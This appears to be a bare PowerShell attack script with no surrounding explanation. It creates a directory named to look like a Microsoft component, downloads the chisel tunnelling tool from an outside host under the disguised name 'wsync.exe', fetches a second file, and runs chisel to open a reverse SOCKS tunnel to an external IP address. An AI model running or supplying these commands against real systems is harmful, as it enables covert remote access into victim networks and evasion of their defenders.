$tools = 'C:\ProgramData\Microsoft\DeviceSync'
New-Item -ItemType Directory -Path $tools -Force | Out-Null
Invoke-WebRequest -Uri 'http://files.dropzone-cdn.net/chisel.exe' -OutFile "$tools\wsync.exe" -UseBasicParsing
(New-Object System.Net.WebClient).DownloadFile('http://files.dropzone-cdn.net/notes.txt', "$tools\readme.txt")
& "$tools\wsync.exe" client 185.11.22.33:443 R:socks
